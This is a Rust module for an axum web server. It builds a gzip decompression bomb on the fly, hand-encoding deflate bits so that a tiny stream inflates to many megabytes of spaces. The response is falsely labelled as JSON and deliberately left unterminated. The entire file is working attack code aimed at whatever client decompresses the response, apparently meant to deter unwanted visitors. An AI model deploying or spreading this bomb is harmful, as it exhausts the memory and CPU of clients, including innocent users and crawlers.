//! A gzip bomb, made as it is sent.

use axum::body::{Body, Bytes};
use axum::http::{HeaderValue, Response, StatusCode, header};
use futures_util::stream;
use std::io;

/// The header of a gzip file (RFC 1952), without name and time.
const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
/// A match of 258 bytes at distance 1, in the fixed codes of deflate (RFC 1951, 3.2.6): 285 without extra bits, then 0.
const MATCH: [bool; 13] = [
    true, true, false, false, false, true, false, true, false, false, false, false, false,
];
/// What one match repeats.
const MATCHED: u64 = 258;
/// Matches after which the bits stand as before within their byte.
const ROUND: usize = 8;
/// Rounds of one piece.
const ROUNDS: usize = 1_000;

/// So many megabytes of spaces. It ends without the end that gzip has: nobody should come that far.
pub fn response(status: StatusCode, megabytes: u64) -> Response<Body> {
    // A block that is not the last, of fixed codes; then one space, 0x30 + 0x20 in eight bits.
    let mut bits = vec![false, true, false];
    bits.extend((0..8).rev().map(|bit| 0x50 >> bit & 1 == 1));
    while bits.len() < 8 * (MATCH.len() + 2) {
        bits.extend(MATCH);
    }
    let bytes: Vec<u8> = bits.chunks_exact(8).map(byte).collect();
    // The first 11 bits are the beginning; what follows comes round every 13 bytes.
    let (start, round) = bytes.split_at(2);
    let first = Bytes::from([&HEADER, start].concat());
    let piece = Bytes::from(round[..MATCH.len()].repeat(ROUNDS));
    let matches = megabytes * 1_000_000 / MATCHED;
    let pieces = matches as usize / (ROUND * ROUNDS) + 1;
    let all = std::iter::once(first).chain(std::iter::repeat_n(piece, pieces));
    let mut response = Response::new(Body::from_stream(stream::iter(all.map(Ok::<_, io::Error>))));
    *response.status_mut() = status;
    for (name, value) in [
        (header::CONTENT_TYPE, "application/json"),
        (header::CONTENT_ENCODING, "gzip"),
    ] {
        let value = HeaderValue::from_static(value);
        response.headers_mut().insert(name, value);
    }
    response
}

/// Eight bits, the first of them the lowest.
fn byte(bits: &[bool]) -> u8 {
    let bits = bits.iter().rev();
    bits.fold(0, |byte, bit| byte << 1 | u8::from(*bit))
}
